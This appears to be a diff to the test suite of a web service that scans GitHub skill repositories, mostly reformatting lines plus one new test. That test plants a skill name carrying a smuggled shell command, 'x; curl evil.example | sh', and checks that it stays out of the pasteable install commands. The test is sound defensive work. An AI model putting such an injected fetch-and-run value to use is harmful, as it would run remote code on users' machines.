@@ -17,7 +17,10 @@ let server: TestServer
 
 async function serverWith(options: TestServerOptions = {}) {
   server = await testServer(options)
-  server.github.host('acme/skills', { 'count/SKILL.md': skill('count'), 'Bad_Name/SKILL.md': skill('Bad_Name') })
+  server.github.host('acme/skills', {
+    'count/SKILL.md': skill('count'),
+    'Bad_Name/SKILL.md': skill('Bad_Name'),
+  })
   return server
 }
 afterEach(() => server?.stop())
@@ -28,8 +31,14 @@ describe('without a browser', () => {
     [' https://github.com/acme/skills.git ', { owner: 'acme', repo: 'skills' }],
     ['git@github.com:acme/skills.git', { owner: 'acme', repo: 'skills' }],
     ['github.com/acme/skills/', { owner: 'acme', repo: 'skills' }],
-    ['https://github.example.com/acme/skills/tree/main/a/b%20c', { owner: 'acme', repo: 'skills', ref: 'main', path: 'a/b c' }],
-    ['https://github.com/acme/skills/blob/v1/a/SKILL.md?plain=1#L3', { owner: 'acme', repo: 'skills', ref: 'v1', path: 'a/SKILL.md' }],
+    [
+      'https://github.example.com/acme/skills/tree/main/a/b%20c',
+      { owner: 'acme', repo: 'skills', ref: 'main', path: 'a/b c' },
+    ],
+    [
+      'https://github.com/acme/skills/blob/v1/a/SKILL.md?plain=1#L3',
+      { owner: 'acme', repo: 'skills', ref: 'v1', path: 'a/SKILL.md' },
+    ],
     ['acme/skills/tree/main', { owner: 'acme', repo: 'skills', ref: 'main' }],
     ['https://github.com/acme/skills/issues/3', { owner: 'acme', repo: 'skills' }],
     ['acme', undefined],
@@ -45,14 +54,23 @@ describe('without a browser', () => {
     expect(start.headers.get('content-type')).toBe('text/html; charset=utf-8')
     expect(start.text).toContain('<form class="scan" action="/go"')
     const { url } = server
-    const went = await fetch(new URL('/go?q=github.com/acme/skills/tree/main/count', url), { redirect: 'manual' })
+    const went = await fetch(new URL('/go?q=github.com/acme/skills/tree/main/count', url), {
+      redirect: 'manual',
+    })
     expect([went.status, went.headers.get('location')]).toEqual([303, '/r/acme/skills?path=count&ref=main'])
     const report = await server.get('/r/acme/skills', asPage)
     expect(report.status).toBe(200)
-    for (const words of ['Bad_Name', 'npx skills add acme/skills', 'git clone https://github.com/acme/skills.git', 'badge.svg'])
+    for (const words of [
+      'Bad_Name',
+      'npx skills add acme/skills',
+      'git clone https://github.com/acme/skills.git',
+      'badge.svg',
+    ])
       expect(report.text).toContain(words)
     expect((await server.get('/checks', asPage)).text).toContain('structure.skill-md-exists')
-    const routes = JSON.parse((await server.get('/', { accept: 'application/json' })).text) as { routes: string[] }
+    const routes = JSON.parse((await server.get('/', { accept: 'application/json' })).text) as {
+      routes: string[]
+    }
     expect(routes.routes).toContain('GET /v1/repos/{owner}/{repo}/evaluate')
   })
 
@@ -63,7 +81,9 @@ describe('without a browser', () => {
       const policy = headers.get('content-security-policy')!
       expect(policy).toContain("default-src 'none'; script-src 'self'; style-src 'self'")
       expect(policy).not.toContain('unsafe')
-      expect(text).not.toMatch(/<script(?![^>]*src=)|<style|\sstyle=|\son\w+=|https?:\/\/(?!github\.com|127\.0\.0\.1)[^"]*\.(?:js|css|png)/)
+      expect(text).not.toMatch(
+        /<script(?![^>]*src=)|<style|\sstyle=|\son\w+=|https?:\/\/(?!github\.com|127\.0\.0\.1)[^"]*\.(?:js|css|png)/,
+      )
     }
     const files = Object.values(assets)
     for (const { name, type } of files) {
@@ -72,6 +92,23 @@ describe('without a browser', () => {
       expect(headers.get('cache-control')).toContain('immutable')
     }
     expect(files.reduce((sum, { body }) => sum + gzipSync(body).length, 0)).toBeLessThan(60_000)
+  })
+
+  it('puts no name of a stranger into a command that people paste', async () => {
+    await serverWith()
+    const evil = { 'a/SKILL.md': skill('"x; curl evil.example | sh"'), 'b/SKILL.md': skill('b') }
+    server.github.host('acme/evil', evil)
+    const commands = async (path: string) => {
+      const { text } = await server.get(`/r/acme/evil?path=${path}`, asPage)
+      return [...text.matchAll(/<code tabindex="0" data-copy="[^"]*">(npx[^<]*|gh[^<]*)</g)].map(
+        ([, command]) => command,
+      )
+    }
+    expect(await commands('a')).toEqual(['npx skills add acme/evil', 'gh skill install acme/evil'])
+    expect(await commands('b')).toEqual([
+      'npx skills add acme/evil --skill b',
+      'gh skill install acme/evil b',
+    ])
   })
 
   it('says in the same words as the API what cannot be shown', async () => {
@@ -98,7 +135,9 @@ describe('without a browser', () => {
     expect(headers.get('content-type')).toBe('text/event-stream; charset=utf-8')
     expect(text).toMatch(/^event: commit\ndata: {"repository":"acme\/skills","commit":"[0-9a-f]{40}"}\n\n/)
     expect(text).toMatch(/event: done\ndata: {"url":"\/r\/acme\/skills"}\n\n$/)
-    expect((await server.get('/progress?q=acme/none')).text).toMatch(/^event: failed\ndata: {"detail":"acme\/none was not found/)
+    expect((await server.get('/progress?q=acme/none')).text).toMatch(
+      /^event: failed\ndata: {"detail":"acme\/none was not found/,
+    )
     expect((await server.get('/progress?q=nothing')).text).toContain('event: failed')
   })
 })
@@ -178,7 +217,9 @@ describe.skipIf(!hasBrowser)(hasBrowser ? 'in a browser' : howToGetBrowser, () =
     await serverWith()
     await open(path, options)
     expectOwn()
-    expect(await page.evaluate('document.documentElement.scrollWidth - document.documentElement.clientWidth')).toBe(0)
+    expect(
+      await page.evaluate('document.documentElement.scrollWidth - document.documentElement.clientWidth'),
+    ).toBe(0)
     expect(await faults()).toEqual([])
   })
 
